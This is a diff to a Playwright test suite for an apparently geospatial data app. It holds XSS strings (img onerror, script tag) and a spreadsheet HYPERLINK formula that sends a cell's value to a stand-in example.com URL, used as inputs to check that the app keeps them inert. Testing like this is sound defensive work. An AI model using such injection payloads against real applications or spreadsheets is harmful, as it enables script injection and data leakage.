@@ -1,23 +1,18 @@
 import type { Page } from '@playwright/test';
 import type { Polygon } from 'geojson';
-import { expect, test } from './fixtures';
 import { measuredArea } from './independent-land';
 import { collectionOf, plotFeature, writeFiles, writePieces } from './made-files';
 import type { AppPage } from './pages/app-page';
 import { DataPanelPage } from './pages/data-panel-page';
 import { NoticesPage } from './pages/notices-page';
 import { TablePage } from './pages/table-page';
-import { smallSamplePlots, useSmallSample } from './small-sample';
+import { expect, test } from './small-fixtures';
+import { smallSamplePlots } from './small-sample';
 
 /** Text that would do harm wherever it is taken for more than text. */
 const markup = '<img src=x onerror="window.harmed=1">';
 const script = '<script>window.harmed=1</script>';
 const formula = '=HYPERLINK("https://example.com/?"&A1,"点此")';
-
-test.beforeEach(async ({ app, page }) => {
-  await useSmallSample(page);
-  await app.open();
-});
 
 test('a file of 300 MB opens, and the page answers meanwhile', async ({ app, page }, info) => {
   const remark = '示例'.repeat(1200);
@@ -98,6 +93,11 @@ test('names that programs use themselves are columns like any other', async ({
   });
   await app.dropFiles([path!]);
   expect(await app.figure('total.plots', '合计')).toBe(2);
+  const data = new DataPanelPage(page);
+  await data.open();
+  for (const name of ['__proto__', 'constructor', 'toString', 'hasOwnProperty'])
+    await expect(data.dialog.locator(`[data-heading="${name}"]`)).toBeVisible();
+  await data.close();
   await new TablePage(page).choose('P-1');
   const panel = page.getByRole('complementary').filter({ hasText: '全部字段' });
   await panel.getByText('全部字段').click();
